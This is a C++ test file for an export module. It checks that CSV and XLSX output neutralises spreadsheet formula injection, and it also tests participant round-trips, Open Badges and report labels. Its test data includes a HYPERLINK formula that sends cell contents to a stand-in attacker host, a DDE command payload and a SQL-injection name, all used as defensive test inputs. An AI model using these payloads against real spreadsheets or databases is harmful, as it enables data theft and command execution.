// Writers of outside formats: CSV fields and files that the readers take back unchanged, XLSX, Open Badges.
#include <catch2/catch.hpp>

#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <nlohmann/json.hpp>

#include "core/names.hpp"
#include "core/signature.hpp"
#include "cells.hpp"
#include "io/csv.hpp"
#include "io/export.hpp"
#include "io/open_badges.hpp"
#include "io/participant_csv.hpp"
#include "io/report_labels.hpp"

using namespace mitra;
using namespace mitra::io;
using mitra::io::testing::spreadsheet_cells;
using mitra::io::testing::starts_formula;

namespace {

Participant person(const std::string& ref, const std::string& name, const std::string& latin,
                   const std::string& email) {
    Participant p;
    p.ref = ref;
    p.full_name = name;
    p.latin_name = latin;
    p.country = "NP";
    p.language = "ne";
    p.email = email;
    return p;
}

std::string shell(const std::string& command) {
    std::string out;
    FILE* pipe = popen((command + " 2>/dev/null").c_str(), "r");
    if (!pipe) return out;
    char buffer[4096];
    std::size_t n;
    while ((n = fread(buffer, 1, sizeof buffer, pipe)) > 0) out.append(buffer, n);
    pclose(pipe);
    return out;
}

}  // namespace

TEST_CASE("a CSV field is quoted only when it must be", "[io][export]") {
    CHECK(csv_field("Sukarno") == "Sukarno");
    CHECK(csv_field("山田 花子") == "山田 花子");
    CHECK(csv_field("Khan, Aisha") == "\"Khan, Aisha\"");
    CHECK(csv_field("say \"hi\"") == "\"say \"\"hi\"\"\"");
    CHECK(csv_field("two\nlines") == "\"two\nlines\"");
    CHECK(csv_field(" padded ") == "\" padded \"");
    CHECK(csv_line({"a", "", "b,c"}) == "a,,\"b,c\"\r\n");
}

TEST_CASE("a text cell a spreadsheet would run as a formula is written after a quote, which reading takes off",
          "[io][export][formula]") {
    // A text; as the file holds it. The cases the rule must keep apart.
    const std::vector<std::pair<std::string, std::string>> cases = {
        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
         "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"@SUM(1+1)", "'@SUM(1+1)"},
        {"-Rai", "'-Rai"},
        {"-12", "'-12"},  // in a text column, even a number
        {"\tx", "'\tx"},
        {"\rx", "\"'\rx\""},
        {"'=already", "''=already"},  // a quote of its own before a formula: one more
        {"''@twice", "'''@twice"},
        {"O'Neil", "O'Neil"},  // a quote anywhere else: as it is
        {"'quoted'", "'quoted'"},
        {"'", "'"},
        {"''", "''"},
        {"a=b", "a=b"},
        {" =x", "\" =x\""},  // a spreadsheet looks at the first character only
        {"", ""},
        {"12", "12"},
    };
    for (const auto& [text, written] : cases) {
        INFO("text: [" << text << "]");
        CHECK(csv_field(text) == written);
        const auto read = read_csv("name,x\r\n" + written + ",x\r\n", "f.csv");
        REQUIRE(read.ok());
        REQUIRE(read.value.rows.size() == 1);
        CHECK(read.value.rows[0].fields[0].text == text);
    }
    SECTION("a number column keeps a plain number, negative too, and guards anything else") {
        CHECK(csv_field("-12", CsvCell::number) == "-12");
        CHECK(csv_field("-3.5", CsvCell::number) == "-3.5");
        CHECK(csv_field("360", CsvCell::number) == "360");
        CHECK(csv_field("<5", CsvCell::number) == "<5");
        CHECK(csv_field("-1-1", CsvCell::number) == "'-1-1");
        CHECK(csv_field("=1+1", CsvCell::number) == "'=1+1");
        CHECK(csv_field("-", CsvCell::number) == "'-");
        CHECK(csv_line({"-Rai", "-12"}, {CsvCell::text, CsvCell::number}) == "'-Rai,-12\r\n");
        const auto read = read_csv("a,b\r\n'-Rai,-12\r\n", "f.csv");
        REQUIRE(read.ok());
        CHECK(read.value.rows[0].fields[0].text == "-Rai");
        CHECK(read.value.rows[0].fields[1].text == "-12");
    }
    SECTION("a file typed by hand reads as a spreadsheet shows it: the guarding quote goes, any other stays") {
        const auto read = read_csv("a,b,c,d\n'=x,''=x,'abc,\"'@x, y\"\n", "f.csv");
        REQUIRE(read.ok());
        const auto& f = read.value.rows[0].fields;
        CHECK(f[0].text == "=x");
        CHECK(f[1].text == "'=x");
        CHECK(f[2].text == "'abc");
        CHECK(f[3].text == "@x, y");
    }
}

TEST_CASE("no export leaves a formula at the start of a cell: names, phones, sites, actors, notes, report items",
          "[io][export][formula]") {
    const std::vector<std::string> formulas = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                                               "+cmd|' /C calc'!A0", "@SUM(1+1)", "-Rai", "=1+1,2"};
    auto no_formula_in = [](const std::string& csv) {
        const auto cells = spreadsheet_cells(csv);
        REQUIRE(cells.size() > 8);
        for (const auto& cell : cells) {
            INFO("cell: [" << cell << "]");
            CHECK_FALSE(starts_formula(cell));
        }
    };
    std::vector<Participant> people;
    for (std::size_t i = 0; i < formulas.size(); ++i) {
        people.push_back(person("P-00" + std::to_string(i), formulas[i], formulas[(i + 1) % formulas.size()], ""));
        people.back().phone = "+977 1 555 0100";  // to a spreadsheet a formula too (an intersection), and an error
    }
    no_formula_in(participants_csv(people));

    Cohort cohort;
    cohort.code = "KTM-1";
    cohort.curriculum_code = "PSF";
    cohort.site = formulas[0];
    cohort.time_zone = "@Asia/Kathmandu";
    cohort.capacity = 20;
    no_formula_in(cohorts_csv({cohort}));

    std::vector<AuditEntry> entries;
    for (const auto& f : formulas) entries.push_back({"2026-01-05T10:00:00Z", f, "attendance", "change", f, f, f});
    no_formula_in(audit_csv(entries));

    ReportTable table;
    table.name = "=Sheet";
    table.header = {"country", "enrolled"};
    for (const auto& f : formulas) table.rows.push_back({f, f});
    table.rows.push_back({"Nepal", "-3"});
    const std::string report = tables_csv({table});
    CHECK(report.find(",-3\r\n") != std::string::npos);  // a figure stays a number
    auto cells = spreadsheet_cells(report);
    cells.erase(std::remove(cells.begin(), cells.end(), "-3"), cells.end());
    for (const auto& cell : cells) {
        INFO("cell: [" << cell << "]");
        CHECK_FALSE(starts_formula(cell));
    }

    ParticipantCompletion done;
    done.ref = "P-001";
    done.reason = "-2 sessions short";
    ModuleCompletion module;
    module.code = "M01";
    module.reason = "=1+1";
    module.attended_minutes = 300;
    module.required_minutes = 360;
    done.modules.push_back(module);
    const std::string completions = completions_csv("KTM-1", {done});
    no_formula_in(completions);
    CHECK(completions.find(",300,360,'=1+1\r\n") != std::string::npos);
}

TEST_CASE("exported participants read back exactly as they were", "[io][export]") {
    std::vector<Participant> people = {
        person("P-001", "山田 花子", "Yamada Hanako", "hanako@example.org"),
        person("P-002", "Khan, \"Aisha\"", "", ""),
        person("P-003", " अर्जुन त्रिपाठी", "Tripathi, Arjun", ""),
        person("P-004", "Robert'); DROP TABLE participants;--", "", ""),
        person("P-005", "\u0DC1\u0DCA\u200D\u0DBB\u0DD2\u0DBA\u0DCF\u0DB1\u0DD2", "", ""),
    };
    people[1].phone = "+977 1 555 0100";
    people[2].consent_date = parse_date("2026-01-03");
    const std::string csv = participants_csv(people);
    REQUIRE(csv.rfind(std::string(kUtf8Bom), 0) == 0);
    const auto read = read_participant_csv(csv, "export.csv");
    INFO((read.problems.empty() ? "" : read.problems.front().message));
    REQUIRE(read.ok());
    REQUIRE(read.value.size() == people.size());
    for (std::size_t i = 0; i < people.size(); ++i) {
        const Participant& a = people[i];
        const Participant& b = read.value[i].participant;
        CHECK(b.ref == a.ref);
        // A name stored before names were normalised (P-003's leading space) comes back in its kept form.
        CHECK(b.full_name == normalize_name(a.full_name));
        CHECK(b.latin_name == a.latin_name);
        CHECK(b.country == a.country);
        CHECK(b.language == a.language);
        CHECK(b.email == a.email);
        CHECK(b.phone == a.phone);
        CHECK(b.consent_date == a.consent_date);
    }
}

TEST_CASE("report tables become one CSV with a byte-order mark and one XLSX sheet each", "[io][export]") {
    auto table = [](std::string name, std::string title, std::vector<std::string> header,
                    std::vector<std::vector<std::string>> rows) {
        ReportTable t;
        t.name = std::move(name);
        t.title = std::move(title);
        t.header = std::move(header);
        t.rows = std::move(rows);
        return t;
    };
    const std::vector<ReportTable> tables = {
        table("Summary", "Programme summary", {"figure", "value"},
              {{"people enrolled", "12"}, {"completion rate", "suppressed"}}),
        table("Countries", "By country", {"country", "enrolled", "completed"}, {{"JP", "<5", "0"}, {"NP", "12", "6"}}),
    };
    const std::string csv = tables_csv(tables);
    REQUIRE(csv.rfind("\xEF\xBB\xBF"
                      "table,item,measure,value\r\n",
                      0) == 0);
    const auto read = read_csv(csv, "report.csv");
    REQUIRE(read.ok());
    REQUIRE(read.value.rows.size() == 2 + 4);
    CHECK(read.value.rows[2].fields[0].text == "Countries");
    CHECK(read.value.rows[2].fields[1].text == "JP");
    CHECK(read.value.rows[2].fields[2].text == "enrolled");
    CHECK(read.value.rows[2].fields[3].text == "<5");

    char dir_template[] = "/tmp/mitra-export-XXXXXX";
    REQUIRE(mkdtemp(dir_template));
    const std::filesystem::path dir = dir_template;
    const auto xlsx = dir / "report.xlsx";
    write_xlsx(xlsx, tables, "test report");
    REQUIRE(std::filesystem::exists(xlsx));
    const std::string listing = shell("unzip -l '" + xlsx.string() + "'");
    CHECK(listing.find("xl/worksheets/sheet1.xml") != std::string::npos);
    CHECK(listing.find("xl/worksheets/sheet2.xml") != std::string::npos);
    const std::string sheet = shell("unzip -p '" + xlsx.string() + "' xl/sharedStrings.xml");
    CHECK(sheet.find("suppressed") != std::string::npos);
    CHECK(sheet.find("&lt;5") != std::string::npos);
    std::size_t files = 0;
    for (const auto& entry : std::filesystem::directory_iterator(dir)) files += entry.is_regular_file();
    CHECK(files == 1);  // the temporary file became the workbook

    SECTION("a cell that looks like a formula is a text cell in the workbook, never a formula") {
        const auto formulas = dir / "formulas.xlsx";
        write_xlsx(formulas,
                   {table("=Sheet", "=1+1", {"=item", "value"},
                          {{"=HYPERLINK(\"http://evil.example/\",\"Click\")", "+cmd|' /C calc'!A0"},
                           {"@SUM(1+1)", "-Rai"},
                           {"Nepal", "-3"}})},
                   "=title");
        const std::string cells = shell("unzip -p '" + formulas.string() + "' xl/worksheets/sheet1.xml");
        REQUIRE_FALSE(cells.empty());
        CHECK(cells.find("<f>") == std::string::npos);
        CHECK(cells.find("<f ") == std::string::npos);
        CHECK(cells.find("<v>-3</v>") != std::string::npos);  // a figure is a number
        const std::string strings = shell("unzip -p '" + formulas.string() + "' xl/sharedStrings.xml");
        for (const std::string text : {"=HYPERLINK(\"http://evil.example/\",\"Click\")", "+cmd|' /C calc'!A0",
                                       "@SUM(1+1)", "-Rai", "=1+1", "=item"})
            CHECK(strings.find("<t>" + text + "</t>") != std::string::npos);
    }
    std::filesystem::remove_all(dir);
}

TEST_CASE("the audit history becomes a CSV with a byte-order mark that reads back field for field", "[io][export]") {
    const std::vector<AuditEntry> entries = {
        {"2026-01-05T10:00:00Z", "asha", "attendance", "mark", "P-002 session 3", std::nullopt, "present"},
        {"2026-01-06T08:30:00Z", "hub:coordinator", "attendance", "change", "P-002 session 3", "present",
         "late, 60 min \"bus\"\nsecond line"},
        {"2026-01-07T09:00:00Z", "asha", "certificate", "revoke", "PSF-2026-00001-7", "issued", std::nullopt},
    };
    const std::string csv = audit_csv(entries);
    REQUIRE(csv.rfind("\xEF\xBB\xBF"
                      "at,actor,entity,action,subject,old_value,new_value\r\n",
                      0) == 0);
    const auto read = read_csv(csv, "audit.csv");
    REQUIRE(read.ok());
    REQUIRE(read.value.header.size() == 7);
    CHECK(read.value.header[6].text == "new_value");
    REQUIRE(read.value.rows.size() == entries.size());
    for (std::size_t i = 0; i < entries.size(); ++i) {
        const auto& fields = read.value.rows[i].fields;
        REQUIRE(fields.size() == 7);
        CHECK(fields[0].text == entries[i].at);
        CHECK(fields[1].text == entries[i].actor);
        CHECK(fields[2].text == entries[i].entity);
        CHECK(fields[3].text == entries[i].action);
        CHECK(fields[4].text == entries[i].subject);
        CHECK(fields[5].text == entries[i].old_value.value_or(""));
        CHECK(fields[6].text == entries[i].new_value.value_or(""));
    }
    CHECK(audit_csv({}) == std::string(kUtf8Bom) + "at,actor,entity,action,subject,old_value,new_value\r\n");
}

TEST_CASE("an Open Badges assertion holds the required fields and a salted recipient hash", "[io][badge]") {
    Curriculum c;
    c.code = "PSF";
    c.version = "2026.1";
    c.title.by_language = {{"en", "Peer Support Foundations"}, {"ja", "ピアサポートの基礎"}};
    c.electives_required = 2;
    c.ethics_code = "2026.1";
    Module m;
    m.code = "M01";
    m.title.by_language = {{"en", "Lived Experience and Mutuality"}};
    m.minutes = 360;
    c.modules.push_back(m);

    BadgeInput in;
    in.certificate_uuid = "0f8fad5b-d9cb-469f-a165-70867728950e";
    in.serial = "PSF-NP-2026-000001-S";
    in.kind = "completion";
    in.curriculum = &c;
    in.issued_on = "2026-03-20";
    in.recipient_type = "email";
    in.recipient_identity = " Hanako@Example.org ";
    in.key_id = "0123456789abcdef";
    in.qr_payload = "MITRA1.abc.def";
    const auto b = nlohmann::json::parse(open_badge_assertion(in, "a1b2"));
    CHECK(b["@context"] == "https://w3id.org/openbadges/v2");
    CHECK(b["type"] == "Assertion");
    CHECK(b["id"] == "urn:uuid:0f8fad5b-d9cb-469f-a165-70867728950e");
    CHECK(b["recipient"]["identity"] == "sha256$" + sha256_hex("hanako@example.orga1b2"));
    CHECK(b["recipient"]["salt"] == "a1b2");
    CHECK(b["issuedOn"] == "2026-03-20T00:00:00Z");
    for (const auto* key : {"type", "id", "name", "description", "image", "criteria", "issuer"})
        CHECK(b["badge"].contains(key));
    CHECK(b["verification"]["type"] == "SignedBadge");
    CHECK(b["verification"]["keyId"] == "0123456789abcdef");
    CHECK(b["extensions:MitraCertificate"]["qrPayload"] == "MITRA1.abc.def");
    CHECK(b["extensions:MitraCertificate"]["titles"]["ja"] == "ピアサポートの基礎");
    CHECK(new_badge_salt().size() == 32);
    CHECK(new_badge_salt() != new_badge_salt());
    CHECK(badge_criteria(c, "module", "M01").find("Lived Experience and Mutuality") != std::string::npos);
}

TEST_CASE("the report's label catalog covers every shipped language, falls back to English, names countries",
          "[io][report][language]") {
    CHECK(report_languages() == std::vector<std::string>{"en", "ja", "ko", "zh-Hans", "zh-Hant", "th", "id", "fil",
                                                         "hi", "ne", "si", "ta", "vi", "ur"});
    for (const auto& key : report_label_keys())
        for (const auto& language : report_languages()) {
            INFO(key << " in " << language);
            CHECK(has_report_label(key, language));
        }
    CHECK(report_language("zh-CN") == "zh-Hans");
    CHECK(report_language("zh_TW") == "zh-Hant");
    CHECK(report_language("ja-JP") == "ja");
    CHECK(report_language("EN") == "en");
    CHECK(report_language("xx").empty());
    CHECK(report_label("people enrolled", "ja") == "登録者数");
    CHECK(report_label("people enrolled", "si") != "people enrolled");            // Sinhala's own words
    CHECK(report_label("people enrolled", "xx") == "people enrolled");            // no such language: English
    CHECK(report_label("a label nobody wrote", "ja") == "a label nobody wrote");  // unknown label: itself
    CHECK(report_label("page {n}", "zh-Hant", {{"n", "3"}}) == "第3頁");
    CHECK(country_name("JP", "ja") == "日本");
    CHECK(country_name("NP", "hi") == "नेपाल");
    CHECK(country_name("TH", "th") == "ไทย");
    CHECK(country_name("KR", "ko") == "대한민국");
    CHECK(country_name("TW", "zh-Hant") == "台灣");
    CHECK(country_name("PK", "ur") == "پاکستان");
    CHECK(country_name("NP", "en") == "Nepal");
    CHECK(country_name("QQ", "ja") == "QQ");  // no such region: the code
}
